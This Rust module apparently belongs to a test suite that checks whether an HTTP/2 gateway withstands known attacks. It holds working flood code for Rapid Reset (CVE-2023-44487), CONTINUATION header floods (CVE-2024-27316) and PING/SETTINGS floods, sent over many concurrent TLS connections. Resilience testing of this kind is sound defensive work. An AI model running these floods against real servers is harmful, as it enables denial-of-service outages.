//! HTTP/2 frames (RFC 9113) that no client sends.

use std::time::Duration;

use bytes::{BufMut as _, BytesMut};
use samsyn_tests::raw::{Failure, connect, handshake, tls};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};
use tokio_rustls::client::TlsStream;

use super::{Tally, at_once};
use crate::target::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// A whole header block of a call, in HPACK (RFC 7541) without a table: POST, https, a path.
const BLOCK: &[u8] = &[0x83, 0x87, 0x04, 0x05, b'/', b'a', b'b', b'c', b'd', 0x01, 0x01, b'x'];
/// Longer than any of these may last.
const PATIENCE: Duration = Duration::from_secs(20);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> BytesMut {
    let mut frame = BytesMut::new();
    frame.put_uint(u64::try_from(payload.len()).unwrap_or(0), 3);
    frame.put_u8(kind);
    frame.put_u8(flags);
    frame.put_u32(stream);
    frame.put_slice(payload);
    frame
}

async fn open(target: &Target, number: usize) -> Result<TlsStream<TcpStream>, Failure> {
    let profile = target.profile("raddningstjansten")?;
    let tcp = connect(&profile, Target::source(number)).await?;
    let mut stream = handshake(tls(&profile)?, tcp).await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(stream)
}

/// Sends until the gateway ends the connection, or the wave is over; how many frames.
async fn send(
    target: &Target,
    stream: TlsStream<TcpStream>,
    mut next: impl FnMut(u32) -> BytesMut + Send,
) -> (u64, bool) {
    let (mut reader, mut writer) = tokio::io::split(stream);
    let mut reading = tokio::spawn(async move {
        let mut bytes = [0; 4096];
        while reader.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
    });
    let mut sent = 0;
    for number in 0_u32.. {
        let ended = reading.is_finished();
        if ended || !target.goes_on() || writer.write_all(&next(number)).await.is_err() {
            break;
        }
        sent += 1;
    }
    // An attack that was going on when the wave ended is ended by the gateway soon after.
    let ended = timeout(PATIENCE, &mut reading).await.is_ok();
    (sent, ended)
}

async fn ended_by_the_gateway(
    target: Target,
    next: impl Fn(u32) -> BytesMut + Copy + Send + 'static,
) -> Result<Tally, Failure> {
    at_once(8, move |number| {
        let target = target.clone();
        async move {
            let mut tally = Tally::default();
            while target.goes_on() {
                let Ok(stream) = open(&target, number).await else { continue };
                let (_, ended) = send(&target, stream, next).await;
                tally.refused(ended);
            }
            Ok(tally)
        }
    })
    .await
}

/// Calls that are reset as soon as they are begun (CVE-2023-44487).
pub(super) async fn rapid_reset(target: Target) -> Result<Tally, Failure> {
    ended_by_the_gateway(target, |number| {
        let stream = number.wrapping_mul(2).wrapping_add(1);
        let mut both = frame(HEADERS, END_HEADERS, stream, BLOCK);
        both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        both
    })
    .await
}

/// A header block that goes on and on (CVE-2024-27316).
pub(super) async fn continuation(target: Target) -> Result<Tally, Failure> {
    ended_by_the_gateway(target, |number| {
        // A literal header without indexing: a name and a value of some bytes.
        let mut field = vec![0x00, 0x01, b'a', 0x7f, 0x80, 0x07];
        field.extend([b'v'; 1_023]);
        if number == 0 { frame(HEADERS, 0, 1, BLOCK) } else { frame(CONTINUATION, 0, 1, &field) }
    })
    .await
}

/// Pings and settings, each of which asks for an answer. They are answered, and cost little; a
/// connection that does nothing else ends for want of a call.
pub(super) async fn pings(target: Target) -> Result<Tally, Failure> {
    ended_by_the_gateway(target, |number| {
        if number.is_multiple_of(2) {
            frame(PING, 0, 0, &u64::from(number).to_be_bytes())
        } else {
            frame(SETTINGS, 0, 0, &[])
        }
    })
    .await
}
